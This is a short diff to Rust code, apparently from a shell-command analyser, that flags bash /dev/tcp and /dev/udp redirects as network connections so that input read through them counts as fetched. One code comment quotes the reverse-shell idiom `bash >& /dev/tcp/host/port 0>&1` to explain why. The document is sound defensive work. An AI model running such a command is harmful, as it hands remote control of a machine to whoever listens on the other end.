@@ -175,10 +175,17 @@ impl<'a> Judge<'a> {
             match redirect {
                 Redirect::Read(word) => {
                     let file = self.one(word, scope)?;
-                    scope.stdin = scope.file(&file).unwrap_or_else(Data::local);
+                    scope.stdin = match is_connection(&file) {
+                        true => Data::Opaque(Origin::Fetched),
+                        false => scope.file(&file).unwrap_or_else(Data::local),
+                    };
                 }
                 Redirect::Write { target, append } => {
                     for target in self.fields(target, scope)? {
+                        // Bash's connections go both ways: `bash >& /dev/tcp/host/port 0>&1` reads its commands there.
+                        if is_connection(&target) {
+                            scope.stdin = Data::Opaque(Origin::Fetched);
+                        }
                         writes.push((target, *append));
                     }
                 }
@@ -336,6 +343,12 @@ impl<'a> Judge<'a> {
         scope.ended = false;
         output
     }
+}
+
+/// A connection to the network, by bash's own names for one.
+fn is_connection(file: &Field) -> bool {
+    let name = file.visible();
+    name.starts_with("/dev/tcp/") || name.starts_with("/dev/udp/")
 }
 
 pub(super) fn too_complex() -> Refusal {
